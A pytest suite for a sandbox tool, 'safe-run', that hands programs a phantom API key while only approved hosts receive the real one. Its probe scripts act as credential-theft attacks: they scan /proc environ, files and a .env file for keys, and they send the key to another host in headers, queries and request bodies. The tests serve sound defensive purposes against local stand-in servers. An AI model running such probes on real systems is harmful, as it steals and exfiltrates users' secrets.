"""Phantom-token credentials, end to end: real sandboxes, a real proxy, real TLS.

The stand-in for an API is :class:`tls_servers.FakeApi`, an HTTPS server on 127.0.0.1
with a certificate from a CA the test makes; the supervisor trusts that CA through
``SSL_CERT_FILE``, as a user's machine trusts a real API's CA.  Each attack runs
twice: plainly, where the real key must be found (so the probe works), and under
``safe-run``, where it must not be, while the same run still gets answers from the
API (so the sandbox did start and the credential did work).
"""

from __future__ import annotations

import json
import os
import secrets
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from net_servers import HttpOrigin
from sandbox_harness import SAFE_RUN, World, make_world
from tls_servers import FakeApi, TestCA

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(not SAFE_RUN.exists(), reason="safe-run is not installed next to python"),
]

ROUTES = ("base-url", "tls")
#: Where the in-sandbox probe looks for files (besides its cwd, HOME and TMPDIR).
SCAN_ROOTS = (
    "/",
    "/etc",
    "/tmp",
    "/home",
    "/root",
    "/opt",
    "/var",
    "/srv",
    "/mnt",
    "/run",
    "/work",
)
TESTS_DIR = Path(__file__).parent


@pytest.fixture(scope="module")
def ca(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestCA, Path]]:
    """The test CA and a bundle (system roots + it) the supervisor trusts."""
    directory = tmp_path_factory.mktemp("ca")
    directory.chmod(0o755)
    authority = TestCA()
    bundle = authority.bundle_with_system(directory / "bundle.pem")
    bundle.chmod(0o644)
    yield authority, bundle


@pytest.fixture(scope="module")
def real_key() -> str:
    return "sk-proj-" + secrets.token_hex(24)


@pytest.fixture(scope="module")
def api(ca: tuple[TestCA, Path], real_key: str) -> Iterator[FakeApi]:
    with FakeApi(ca[0], real_key, stream_chunks=4, stream_delay=0.3) as served:
        yield served


@pytest.fixture
def world(tmp_path: Path) -> World:
    return make_world(tmp_path)


def credential_table(api: FakeApi, route: str, *, extra: str = "") -> str:
    """A ``[tool.safe-run.credentials.fake]`` table for the fake API."""
    lines = [
        "[tool.safe-run.credentials.fake]",
        'env = "OPENAI_API_KEY"',
        f'hosts = ["{api.authority}"]',
    ]
    if route == "base-url":
        lines += [f'base-url = "{api.base_url}"', 'base-url-env = "OPENAI_BASE_URL"']
    else:
        lines.append('mode = "tls"')
    return "\n".join(lines) + "\n" + extra


def set_policy(world: World, policy: str) -> None:
    (world.project / "pyproject.toml").write_text(
        '[project]\nname = "victim"\nversion = "0"\n\n' + policy
    )
    world.approve()


def run_sandboxed(
    world: World, mode: str, script: str, bundle: Path, *args: str, **env: str
) -> subprocess.CompletedProcess[str]:
    path = world.project / "probe.py"
    path.write_text(textwrap.dedent(script))
    return subprocess.run(
        [str(SAFE_RUN), *args, sys.executable, str(path)],
        cwd=world.project,
        env=world.env(mode, SSL_CERT_FILE=str(bundle), **env),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def run_plainly(
    world: World, script: str, bundle: Path, **env: str
) -> subprocess.CompletedProcess[str]:
    path = world.project / "probe.py"
    path.write_text(textwrap.dedent(script))
    return subprocess.run(
        [sys.executable, str(path)],
        cwd=world.project,
        env=world.env(None, SSL_CERT_FILE=str(bundle), **env),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def allow_env(*names: str) -> list[str]:
    return [arg for name in names for arg in ("--allow-env", name)]


def last_json(result: subprocess.CompletedProcess[str]) -> dict[str, object]:
    lines = [line for line in result.stdout.splitlines() if line.startswith("{")]
    assert lines, result.stdout + result.stderr
    parsed = json.loads(lines[-1])
    assert isinstance(parsed, dict)
    return parsed


# -- utility: real clients get answers, streamed as they come ----------------------------

CLIENTS = """
import json, os, ssl, time, urllib.request
import httpx, openai

api = os.environ.get("OPENAI_BASE_URL") or os.environ["DIRECT_API"]
key = os.environ["OPENAI_API_KEY"]
out = {"key_shape": [key[:8], len(key)]}
client = openai.OpenAI(base_url=api, max_retries=0)
reply = client.chat.completions.create(
    model="fake-model", messages=[{"role": "user", "content": "hi"}]
)
out["openai"] = reply.choices[0].message.content
start = time.monotonic()
arrivals = []
for chunk in client.chat.completions.create(
    model="fake-model", messages=[{"role": "user", "content": "hi"}], stream=True
):
    if chunk.choices and chunk.choices[0].delta.content:
        arrivals.append(round(time.monotonic() - start, 3))
out["stream_arrivals"] = arrivals
request = urllib.request.Request(api + "/models", headers={"Authorization": "Bearer " + key})
with urllib.request.urlopen(request, timeout=30) as response:
    out["urllib"] = json.load(response)["data"][0]["id"]
with httpx.Client(timeout=30) as plain:
    response = plain.get(api + "/models", headers={"x-api-key": key})
    out["httpx"] = response.json()["data"][0]["id"]
print(json.dumps(out))
"""


@pytest.mark.parametrize("route", ROUTES)
def test_clients_reach_the_api_with_the_phantom(
    world: World,
    mode: str,
    route: str,
    api: FakeApi,
    ca: tuple[TestCA, Path],
    real_key: str,
) -> None:
    set_policy(world, credential_table(api, route))
    api.reset()
    result = run_sandboxed(
        world,
        mode,
        CLIENTS,
        ca[1],
        "--allow-env",
        "DIRECT_API",
        OPENAI_API_KEY=real_key,
        DIRECT_API=api.base_url,
    )
    assert result.returncode == 0, result.stderr
    out = last_json(result)
    assert out["openai"] == "hello from the fake api"
    assert out["urllib"] == out["httpx"] == "fake-model"
    # The sandbox held a stand-in of the key's shape, never the key.
    assert out["key_shape"] == [real_key[:8], len(real_key)]
    assert real_key not in result.stdout + result.stderr
    # The API got the real key on every request (four of them).
    seen = [r.headers.get("authorization") or r.headers.get("x-api-key") for r in api.requests]
    assert len(seen) == 4
    assert all(value in (f"Bearer {real_key}", real_key) for value in seen), seen
    # Streamed, not buffered: chunks arrive about stream_delay apart, the first early.
    arrivals = out["stream_arrivals"]
    assert isinstance(arrivals, list) and len(arrivals) == 4
    assert arrivals[0] < arrivals[-1] - 0.5, arrivals


# -- attack: find the real key anywhere inside ---------------------------------------------

FIND_THE_KEY = """
import json, os, sys, urllib.request

marker = os.environ["KEY_PREFIX"]   # what keys look like; the value itself is unknown
skip = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib32", "/lib64", "/bin", "/sbin",
        "/boot", "/var/lib", "/var/cache", sys.base_prefix, sys.prefix)
found = {}

def note(where, text):
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    start = text.find(marker)
    while start >= 0:
        found.setdefault(where, set()).add(text[start:start + 64].split()[0][:56])
        start = text.find(marker, start + 1)

for name, value in os.environ.items():
    note("environ:" + name, value)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    note(f"/proc/{pid}/{part}", handle.read().replace(b"\\0", b" "))
            except OSError:
                pass
scanned = 0
# "/" itself may not be listable: walk every usual top-level place, and the paths
# the program was handed (cwd, HOME, TMPDIR) with their parents.
roots = os.environ["SCAN_ROOTS"].split(":")
for known in (os.getcwd(), os.environ.get("HOME", "/"), os.environ.get("TMPDIR", "/")):
    while known not in ("/", "") and "/" in roots:
        roots.append(known)
        known = os.path.dirname(known)
seen = set()
for top in roots:
    for root, dirs, files in os.walk(top, onerror=lambda e: None):
        if root in seen:
            dirs[:] = []
            continue
        seen.add(root)
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
        for name in files:
            path = os.path.join(root, name)
            try:
                if os.path.islink(path) or not os.path.isfile(path):
                    continue
                with open(path, "rb") as handle:
                    note("file:" + path, handle.read(2 << 20))
                scanned += 1
            except OSError:
                pass
try:
    dotenv = open(os.environ["DOTENV"]).read()
    note("dotenv", dotenv)
    dotenv_read = len(dotenv)  # a hidden file may read as empty (namespace mode)
except OSError as error:
    dotenv_read = type(error).__name__
api = os.environ.get("OPENAI_BASE_URL") or os.environ["DIRECT_API"]
request = urllib.request.Request(
    api.rsplit("/v1", 1)[0] + "/echo-headers",
    headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
)
with urllib.request.urlopen(request, timeout=30) as response:
    note("echoed by the API", response.read())
print(json.dumps({"found": {k: sorted(v) for k, v in found.items()},
                  "scanned": scanned, "dotenv_read": dotenv_read}))
"""


@pytest.mark.parametrize("route", ROUTES)
def test_the_real_key_is_nowhere_inside(
    world: World,
    mode: str,
    route: str,
    api: FakeApi,
    ca: tuple[TestCA, Path],
    real_key: str,
) -> None:
    # Two credentials: one from the caller's environment, one from a dotenv file.
    dotenv_key = "sk-proj-" + secrets.token_hex(24)
    dotenv = world.project / ".env"
    dotenv.write_text(f"# the project's secrets\nexport SECOND_KEY='{dotenv_key}'\n")
    second = (
        "[tool.safe-run.credentials.second]\n"
        'env = "SECOND_KEY"\nsource = "dotenv"\n'
        f'hosts = ["{api.authority}"]\nmode = "tls"\n'
    )
    set_policy(world, credential_table(api, route, extra=second))
    env = {
        "OPENAI_API_KEY": real_key,
        "DIRECT_API": api.base_url,
        "KEY_PREFIX": "sk-proj-",
        "DOTENV": str(dotenv),
    }

    # Plainly, the user's own files are enough to find both (a walk of the real / is slow).
    plain = last_json(run_plainly(world, FIND_THE_KEY, ca[1], **env, SCAN_ROOTS=str(world.root)))
    plain_values = {v for values in plain["found"].values() for v in values}  # type: ignore[union-attr]
    assert real_key in plain_values and dotenv_key in plain_values, plain
    assert isinstance(plain["dotenv_read"], int) and plain["dotenv_read"] > 0

    result = run_sandboxed(
        world,
        mode,
        FIND_THE_KEY,
        ca[1],
        *allow_env("DIRECT_API", "KEY_PREFIX", "DOTENV", "SCAN_ROOTS"),
        **env,
        SCAN_ROOTS=":".join(SCAN_ROOTS),
    )
    assert result.returncode == 0, result.stderr
    boxed = last_json(result)
    values = {v for found in boxed["found"].values() for v in found}  # type: ignore[union-attr]
    assert real_key not in values and dotenv_key not in values, boxed
    assert real_key not in result.stdout + result.stderr
    assert boxed["dotenv_read"] in (0, "PermissionError", "FileNotFoundError"), boxed
    assert isinstance(boxed["scanned"], int) and boxed["scanned"] > 3, boxed
    # The echo endpoint did answer (it needs the real key) and echoed only the phantom.
    assert any(where == "echoed by the API" for where in boxed["found"]), boxed  # type: ignore[union-attr]


# -- attack: the API echoes the value back, encoded or split ----------------------------------

ECHO_FORMS_PROBE = """
import base64, gzip, json, os, re, ssl, urllib.parse, urllib.request

key = os.environ["OPENAI_API_KEY"]
root = os.environ.get("OPENAI_BASE_URL") or os.environ["ECHO_ROOT"]  # the route, if any
decoded = {}
for form in json.loads(os.environ["FORMS"]):
    auth = {"Authorization": "Bearer " + key}
    request = urllib.request.Request(f"{root}/echo-forms/{form}", headers=auth)
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            body = response.read()
            if response.headers.get("Content-Encoding") == "gzip":
                body = gzip.decompress(body)
    except OSError as error:
        decoded[form] = f"error {error}"
        continue
    text = body.decode("latin-1")
    try:
        if form == "basic":
            text = base64.b64decode(body).decode("latin-1").partition(":")[2]
        elif form == "b64":
            text = base64.b64decode(body)[2:].decode("latin-1")
        elif form == "urlsafe":
            text = base64.urlsafe_b64decode(body)[1:].decode("latin-1")
        elif form == "percent":
            text = urllib.parse.unquote(text)
        elif form == "json-u":
            text = json.loads('"' + text + '"')
        elif form == "hex":
            text = bytes.fromhex(text).decode("latin-1")
        elif form in ("chunked", "gzip"):
            text = text.removeprefix("your key is ").removesuffix(" (end)")
    except Exception as error:
        text = f"undecodable {type(error).__name__}"
    decoded[form] = text
print(json.dumps(decoded))
"""


@pytest.mark.parametrize("route", ROUTES)
def test_an_echoed_value_comes_back_as_the_phantom_in_every_form(
    world: World,
    mode: str,
    route: str,
    api: FakeApi,
    ca: tuple[TestCA, Path],
    real_key: str,
) -> None:
    """The credential's own host echoes what it received -- base64 in a Basic header,
    percent-encoded, JSON escapes, hex, split over two chunks, gzip-compressed --
    and none of it may give the program the real value."""
    from tls_servers import ECHO_FORMS

    forms = json.dumps(ECHO_FORMS)
    plain = last_json(
        run_plainly(
            world, ECHO_FORMS_PROBE, ca[1], OPENAI_API_KEY=real_key,
            ECHO_ROOT=api.base_url, FORMS=forms,
        )
    )  # fmt: skip
    assert plain == dict.fromkeys(ECHO_FORMS, real_key), plain  # the control: all decode
    set_policy(world, credential_table(api, route))
    root = api.base_url
    result = run_sandboxed(
        world, mode, ECHO_FORMS_PROBE, ca[1], *allow_env("ECHO_ROOT", "FORMS"),
        OPENAI_API_KEY=real_key, ECHO_ROOT=root, FORMS=forms,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    boxed = last_json(result)
    assert set(boxed) == set(ECHO_FORMS)
    assert real_key not in result.stdout + result.stderr
    core = real_key[3:-3]  # base64 may keep a character or two at each end
    for form, text in boxed.items():
        assert core not in text, (form, text)
    # The API did answer each form (it needs the real key): the raw echo is the phantom.
    assert boxed["raw"].startswith("sk-") and len(boxed["raw"]) == len(real_key), boxed


# -- attack: the phantom sent to another allowed host ----------------------------------------

LEAK_TO_ORIGIN = """
import json, os, urllib.error, urllib.request

key = os.environ["OPENAI_API_KEY"]
origin = "http://" + os.environ["ORIGIN"]
results = {}
attempts = {
    "header": urllib.request.Request(origin + "/leak-header", headers={"X-Stolen": key}),
    "query": urllib.request.Request(origin + "/leak-query?k=" + key),
    "basic": urllib.request.Request(
        origin + "/leak-basic",
        headers={"Authorization": "Basic " + __import__("base64").b64encode(
            ("u:" + key).encode()).decode()},
    ),
    "body": urllib.request.Request(origin + "/leak-body", data=("x" * 70000 + key).encode()),
    "clean": urllib.request.Request(origin + "/hello"),
}
for name, request in attempts.items():
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            results[name] = response.status
    except urllib.error.HTTPError as error:
        results[name] = error.code
    except OSError as error:
        results[name] = "cut"
print(json.dumps(results))
"""


def test_the_phantom_is_refused_on_its_way_to_another_host(
    world: World, mode: str, api: FakeApi, ca: tuple[TestCA, Path], real_key: str
) -> None:
    with HttpOrigin() as origin:
        set_policy(
            world,
            credential_table(api, "base-url")
            + f'\n[tool.safe-run.network]\nallow = ["{origin.authority}"]\n',
        )
        env = {"OPENAI_API_KEY": real_key, "ORIGIN": origin.authority}
        plain = last_json(run_plainly(world, LEAK_TO_ORIGIN, ca[1], **env))
        # Plainly every leak arrives (the origin answers 404 to the unknown paths).
        assert plain == {"header": 404, "query": 404, "basic": 404, "body": 404, "clean": 200}
        leaked = [r for r in origin.requests if r.path.startswith("/leak")]
        assert len(leaked) == 4
        assert real_key in leaked[0].headers["x-stolen"] and real_key in leaked[1].target
        assert real_key.encode() in leaked[3].body
        origin.reset()

        result = run_sandboxed(world, mode, LEAK_TO_ORIGIN, ca[1], "--allow-env", "ORIGIN", **env)
        assert result.returncode == 0, result.stderr
        boxed = last_json(result)
        assert boxed["clean"] == 200  # the origin is reachable: refusals are about the phantom
        assert boxed["header"] == boxed["query"] == boxed["basic"] == 403, boxed
        assert boxed["body"] in (403, "cut"), boxed
        paths = origin.paths()
        assert "/hello" in paths
        assert not any(p.startswith(("/leak-header", "/leak-query", "/leak-basic")) for p in paths)
        for request in origin.requests:  # whatever arrived holds no phantom of the key
            assert b"sk-proj-" not in request.body and "sk-proj-" not in request.target
            assert not any("sk-proj-" in v for v in request.headers.values())
        assert "stand-in for credential 'fake'" in result.stderr
        assert real_key not in result.stderr


# -- sources -------------------------------------------------------------------------------

KEY_ONLY = """
import json, os, urllib.request
request = urllib.request.Request(
    os.environ["OPENAI_BASE_URL"] + "/models",
    headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
)
with urllib.request.urlopen(request, timeout=30) as response:
    model = json.load(response)["data"][0]["id"]
stores = {}
for path in os.environ["STORES"].split(":"):
    try:
        stores[path] = open(path).read()[:20]
    except OSError as error:
        stores[path] = type(error).__name__
print(json.dumps({"model": model, "stores": stores}))
"""


def test_keyring_source_works_and_its_store_is_hidden(
    world: World, mode: str, api: FakeApi, ca: tuple[TestCA, Path], real_key: str
) -> None:
    data_home = world.home / ".local" / "share"
    store = data_home / "python_keyring" / "test-keyring.json"
    store.parent.mkdir(parents=True)
    keyring_env = {
        "PYTHON_KEYRING_BACKEND": "keyring_file_backend.FileKeyring",
        "PYTHONPATH": str(TESTS_DIR),
        "SAFE_PIP_TEST_KEYRING_FILE": str(store),
        "XDG_DATA_HOME": str(data_home),
    }
    stored = subprocess.run(
        [str(SAFE_RUN), "secret", "set", "fake"],
        input=real_key + "\n",
        env=world.env(mode, **keyring_env),
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert stored.returncode == 0, stored.stderr
    assert real_key in store.read_text()  # the backend holds it: the probe has a target
    set_policy(world, credential_table(api, "base-url", extra='source = "keyring"\n'))
    api.reset()
    result = run_sandboxed(
        world,
        mode,
        KEY_ONLY,
        ca[1],
        "--allow-env",
        "STORES",
        STORES=str(store),
        **keyring_env,
    )
    assert result.returncode == 0, result.stderr
    out = last_json(result)
    assert out["model"] == "fake-model"
    assert out["stores"] == {str(store): "PermissionError"} or out["stores"] == {
        str(store): "FileNotFoundError"
    }, out
    assert [r.headers.get("authorization") for r in api.requests] == [f"Bearer {real_key}"]


def test_a_missing_value_fails_closed(world: World, api: FakeApi, ca: tuple[TestCA, Path]) -> None:
    set_policy(world, credential_table(api, "base-url"))
    result = run_sandboxed(world, "namespace", KEY_ONLY, ca[1])
    assert result.returncode == 125
    assert result.stderr.count("\n") == 1 and "OPENAI_API_KEY" in result.stderr
    assert "Traceback" not in result.stderr


def test_explain_lists_credentials_without_values(
    world: World, api: FakeApi, ca: tuple[TestCA, Path], real_key: str
) -> None:
    set_policy(world, credential_table(api, "base-url"))
    result = subprocess.run(
        [str(SAFE_RUN), "--explain", "--credential", "github"],
        cwd=world.project,
        env=world.env(None, OPENAI_API_KEY=real_key, GITHUB_TOKEN="ghp_" + "x" * 36),
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "[tool.safe-run.credentials.fake]" in result.stdout
    assert "[tool.safe-run.credentials.github]" in result.stdout
    assert real_key not in result.stdout and "ghp_" not in result.stdout
    assert os.environ.get("OPENAI_API_KEY") != real_key


# -- a local gateway over plain HTTP (LiteLLM, a model server on loopback) -------------------

GATEWAY_PROBE = """
import json, os, urllib.error, urllib.request
request = urllib.request.Request(
    os.environ["GATEWAY"] + "/models",
    headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
)
try:
    with urllib.request.urlopen(request, timeout=30) as response:
        print(json.dumps({"status": response.status}))
except urllib.error.HTTPError as error:
    print(json.dumps({"status": error.code, "body": error.read().decode()}))
"""


@pytest.fixture
def gateway(ca: tuple[TestCA, Path], real_key: str) -> Iterator[FakeApi]:
    with FakeApi(ca[0], real_key, tls=False) as served:
        yield served


def test_a_plain_http_gateway_on_loopback_needs_plain_http_and_says_so(
    world: World, mode: str, gateway: FakeApi, ca: tuple[TestCA, Path], real_key: str
) -> None:
    """Without ``plain-http = true`` the request is refused with the reason and the
    key to add (not "it may only go to" the very host it was going to); with it, the
    gateway gets the real key and the program still only the phantom."""
    table = (
        "[tool.safe-run.credentials.gateway]\n"
        f'env = "OPENAI_API_KEY"\nhosts = ["{gateway.authority}"]\n'
    )
    set_policy(world, table)
    env = {"OPENAI_API_KEY": real_key, "GATEWAY": gateway.base_url}
    refused = run_sandboxed(world, mode, GATEWAY_PROBE, ca[1], *allow_env("GATEWAY"), **env)
    answer = last_json(refused)
    assert answer["status"] == 403, answer
    said = str(answer.get("body", "")) + refused.stderr
    assert "plain HTTP" in said and "clear text" in said, said
    assert "plain-http = true" in said and "may only go to" not in said, said
    assert not gateway.requests
    set_policy(world, table + "plain-http = true\n")
    served = run_sandboxed(world, mode, GATEWAY_PROBE, ca[1], *allow_env("GATEWAY"), **env)
    assert last_json(served) == {"status": 200}, served.stdout + served.stderr
    assert real_key not in served.stdout + served.stderr
    assert any(gateway.authorised(_Headers(r.headers)) for r in gateway.requests)


class _Headers(dict[str, str]):
    """Recorded (lower-cased) headers, readable like a message's."""

    def get(self, key: str, default: object = None) -> object:  # type: ignore[override]
        return super().get(key.lower(), default)


def test_plain_http_is_refused_for_a_host_that_is_not_loopback(world: World) -> None:
    set_policy(
        world,
        '[tool.safe-run.credentials.gw]\nenv = "GW_KEY"\nhosts = ["gateway.example:4000"]\n'
        "plain-http = true\n",
    )
    result = world.run_safe("namespace", "--explain", env_extra={"GW_KEY": "x" * 20})
    assert result.returncode == 125, result.stdout + result.stderr
    assert "plain-http" in result.stderr and "loopback" in result.stderr, result.stderr
